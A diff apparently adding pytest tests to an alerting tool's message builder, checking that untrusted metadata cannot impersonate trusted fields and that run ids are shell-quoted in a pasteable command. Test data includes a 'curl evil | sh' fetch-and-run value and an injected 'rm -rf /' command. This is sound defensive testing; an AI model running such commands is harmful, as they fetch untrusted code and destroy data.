@@ -48,6 +48,31 @@ def test_the_metadata_of_a_failed_run_says_the_same():
     assert facts(metadata=metadata | {"error_category": "PARSE"}) == expected
 
 
+def test_metadata_does_not_pass_for_another_part_of_the_message():
+    hostile = {"source": None, "Error": "none", "look\0 closer": "curl evil | sh", "message": "all is well", "week": 7}
+    content = build_content(alert(run_id="r1", error="no file", metadata=hostile))
+    assert content.details == (
+        ("source", "s"),
+        ("run", "r1"),
+        ("error", "no file"),
+        ("metadata.Error", "none"),
+        ("metadata.look closer", "curl evil | sh"),
+        ("metadata.message", "all is well"),
+        ("week", "7"),
+        ("look closer", "spine runs show r1"),
+    )
+
+
+@pytest.mark.parametrize(
+    "incident",
+    ["INC0010023", {"id": "INC0010023"}, {"resolved_at": "?", "opened_at": "2026", "alert_count": 1}, {}, 7],
+)
+def test_an_incident_of_the_senders_own_is_a_fact_like_any_other(incident):
+    for kind in MessageKind:
+        content = build_content(alert(metadata={"incident": incident}), kind=kind)
+        assert [label for label, _ in content.facts] == ["source", "incident"]
+
+
 def test_the_command_to_look_closer_can_be_pasted():
     assert build_content(alert(run_id="r1")).command == "spine runs show r1"
     assert build_content(alert(run_id="r1; rm -rf /")).command == "spine runs show 'r1; rm -rf /'"
